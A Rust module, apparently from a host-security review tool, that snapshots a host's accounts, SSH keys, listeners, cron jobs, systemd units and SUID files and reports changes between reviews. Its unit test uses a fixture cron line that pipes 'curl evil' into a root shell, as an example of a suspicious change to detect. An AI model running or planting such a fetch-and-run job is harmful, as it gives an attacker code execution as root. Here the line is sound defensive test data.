//! The host inventory compared between reviews.
//!
//! Each kind is a set of short, stable lines: privileged accounts, SSH keys,
//! listeners, firewall rules, containers (from the tools' facts) and cron
//! jobs, systemd units and SUID files (read here through `Host`). A line that
//! appears or disappears between two reviews is a host change worth a look
//! even when no finding fires: the decision nobody reviewed.

use std::collections::{BTreeMap, BTreeSet};
use std::os::unix::fs::PermissionsExt;

use serde::{Deserialize, Serialize};
use serde_json::Value;
use vigil_tools::{Host, Redactor};

/// Kinds of inventory, in report order.
pub const KINDS: &[(&str, &str)] = &[
    ("privileged_accounts", "privileged account"),
    ("ssh_keys", "SSH key"),
    ("listeners", "listener"),
    ("firewall_rules", "firewall rule"),
    ("containers", "container"),
    ("cron_jobs", "cron job"),
    ("systemd_units", "systemd unit"),
    ("suid_files", "SUID file"),
];

/// The inventory: kind → lines.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Snapshot(pub BTreeMap<String, BTreeSet<String>>);

/// One change on the host.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HostChange {
    /// The kind (`listeners`, `cron_jobs`…).
    pub kind: String,
    /// `added` or `removed`.
    pub change: String,
    /// The line.
    pub item: String,
}

impl HostChange {
    /// "new listener: tcp 0.0.0.0:9200 java".
    pub fn describe(&self) -> String {
        let noun = KINDS.iter().find(|(k, _)| *k == self.kind).map(|(_, n)| *n).unwrap_or("item");
        let verb = if self.change == "added" { "new" } else { "removed" };
        format!("{verb} {noun}: {}", self.item)
    }
}

fn strs(v: &Value) -> impl Iterator<Item = &Value> {
    v.as_array().into_iter().flatten()
}

fn s<'a>(v: &'a Value, k: &str) -> &'a str {
    v.get(k).and_then(|x| x.as_str()).unwrap_or("")
}

impl Snapshot {
    /// Take the inventory from the tools' facts and the host.
    pub fn take(host: &Host, facts: &BTreeMap<String, Value>) -> Snapshot {
        let mut m: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        let mut put = |k: &str, line: String| {
            m.entry(k.to_string()).or_default().insert(line);
        };
        if let Some(p) = facts.get("list_open_ports") {
            for l in strs(&p["listeners"]) {
                let addr = s(l, "address");
                let addr = if addr.contains(':') { format!("[{addr}]") } else { addr.to_string() };
                put(
                    "listeners",
                    format!("{} {addr}:{} {}", s(l, "proto"), l["port"], s(l, "process")).trim_end().to_string(),
                );
            }
        }
        if let Some(a) = facts.get("audit_accounts") {
            for u in strs(&a["accounts"]) {
                if u.get("privileged").is_some_and(|p| !p.is_null() && p != false && p != "") {
                    put("privileged_accounts", s(u, "name").to_string());
                }
            }
            for k in strs(&a["authorized_keys"]) {
                put(
                    "ssh_keys",
                    format!("{} {} {}", s(k, "user"), s(k, "fingerprint"), s(k, "comment")).trim_end().to_string(),
                );
            }
        }
        if let Some(fw) = facts.get("check_firewall") {
            for r in strs(&fw["rules"]) {
                if let Some(r) = r.as_str() {
                    put("firewall_rules", r.to_string());
                }
            }
        }
        if let Some(d) = facts.get("docker_containers") {
            for c in strs(&d["containers"]) {
                put("containers", format!("{} ({})", s(c, "name"), s(c, "image")));
            }
        }
        for line in cron_jobs(host) {
            put("cron_jobs", line);
        }
        for line in systemd_units(host) {
            put("systemd_units", line);
        }
        for line in suid_files(host) {
            put("suid_files", line);
        }
        Snapshot(m)
    }

    /// What changed from `self` (older) to `newer`.
    pub fn diff(&self, newer: &Snapshot) -> Vec<HostChange> {
        let empty = BTreeSet::new();
        let mut out = Vec::new();
        for (kind, _) in KINDS {
            let a = self.0.get(*kind).unwrap_or(&empty);
            let b = newer.0.get(*kind).unwrap_or(&empty);
            // A kind missing entirely from the old snapshot (a tool that did not exist or
            // could not run then) is no news: only compare kinds both reviews saw.
            if !self.0.contains_key(*kind) || !newer.0.contains_key(*kind) {
                continue;
            }
            for item in b.difference(a) {
                out.push(HostChange { kind: kind.to_string(), change: "added".into(), item: item.clone() });
            }
            for item in a.difference(b) {
                out.push(HostChange { kind: kind.to_string(), change: "removed".into(), item: item.clone() });
            }
        }
        out
    }
}

/// Active cron lines (not comments or variables), prefixed with their file, redacted.
fn cron_jobs(host: &Host) -> Vec<String> {
    let mut files = vec!["/etc/crontab".to_string()];
    files.extend(host.glob("/etc/cron.d/*"));
    files.extend(host.glob("/var/spool/cron/crontabs/*"));
    files.extend(host.glob("/var/spool/cron/*").into_iter().filter(|p| !p.ends_with("/crontabs")));
    let mut out = Vec::new();
    for f in files {
        let Ok(text) = host.read_to_string(&f) else { continue };
        for line in text.lines().map(str::trim) {
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let first = line.split_whitespace().next().unwrap_or("");
            if first.contains('=') && !first.starts_with('@') && !first.starts_with('*') {
                continue;
            }
            let line: String = line.split_whitespace().collect::<Vec<_>>().join(" ");
            out.push(format!("{f}: {}", Redactor::global().text(&line)));
        }
    }
    for period in ["hourly", "daily", "weekly", "monthly"] {
        for f in host.glob(&format!("/etc/cron.{period}/*")) {
            out.push(f);
        }
    }
    out
}

/// Unit files and enablement links an administrator added under /etc/systemd/system.
fn systemd_units(host: &Host) -> Vec<String> {
    let mut out = Vec::new();
    let base = "/etc/systemd/system";
    let Ok(names) = host.read_dir(base) else { return out };
    for n in names {
        let p = format!("{base}/{n}");
        if n.ends_with(".wants") || n.ends_with(".requires") {
            for u in host.read_dir(&p).unwrap_or_default() {
                out.push(format!("{n}/{u}"));
            }
        } else if [".service", ".timer", ".socket", ".path", ".mount"].iter().any(|x| n.ends_with(x)) {
            out.push(n);
        }
    }
    out
}

/// SUID/SGID-root executables in the usual binary directories and where they never belong.
fn suid_files(host: &Host) -> Vec<String> {
    let dirs = [
        "/usr/bin",
        "/usr/sbin",
        "/usr/local/bin",
        "/usr/local/sbin",
        "/usr/lib/openssh",
        "/usr/libexec",
        "/opt",
        "/tmp",
        "/var/tmp",
        "/dev/shm",
    ];
    let mut out = Vec::new();
    for d in dirs {
        walk(host, d, 2, &mut out);
    }
    out.sort();
    out.dedup();
    out
}

fn walk(host: &Host, dir: &str, depth: u8, out: &mut Vec<String>) {
    let Ok(meta) = host.symlink_metadata(dir) else { return };
    if !meta.is_dir() {
        return;
    }
    for n in host.read_dir(dir).unwrap_or_default() {
        let p = format!("{}/{n}", dir.trim_end_matches('/'));
        let Ok(m) = host.symlink_metadata(&p) else { continue };
        if m.is_dir() {
            if depth > 0 {
                walk(host, &p, depth - 1, out);
            }
        } else if m.is_file() && m.permissions().mode() & 0o6000 != 0 {
            let kind = if m.permissions().mode() & 0o4000 != 0 { "setuid" } else { "setgid" };
            out.push(format!("{p} ({kind})"));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn diff_reports_added_and_removed_lines() {
        let mut a = Snapshot::default();
        a.0.insert("listeners".into(), ["tcp 0.0.0.0:22 sshd".to_string()].into());
        a.0.insert("cron_jobs".into(), BTreeSet::new());
        let mut b = a.clone();
        b.0.get_mut("listeners").unwrap().insert("tcp 0.0.0.0:9200 java".into());
        b.0.get_mut("cron_jobs").unwrap().insert("/etc/cron.d/x: * * * * * root curl evil | sh".into());
        let d = a.diff(&b);
        assert_eq!(d.len(), 2);
        assert_eq!(d[0].describe(), "new listener: tcp 0.0.0.0:9200 java");
        assert!(b.diff(&a).iter().all(|c| c.change == "removed"));
        // A kind the old review never saw is not reported as all-new.
        b.0.insert("containers".into(), ["x (y)".to_string()].into());
        assert_eq!(a.diff(&b).len(), 2);
    }

    #[test]
    fn cron_lines_are_collected_and_redacted() {
        let t = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(t.path().join("etc/cron.d")).unwrap();
        std::fs::write(
            t.path().join("etc/cron.d/backup"),
            "# nightly\nMAILTO=root\n0 2 * * * root mysqldump -u root -pS3cret! --all-databases > /backup/db.sql\n",
        )
        .unwrap();
        let lines = cron_jobs(&Host::at(t.path()));
        assert_eq!(lines.len(), 1, "{lines:?}");
        assert!(lines[0].contains("-p[REDACTED]") && !lines[0].contains("S3cret"), "{lines:?}");
    }
}
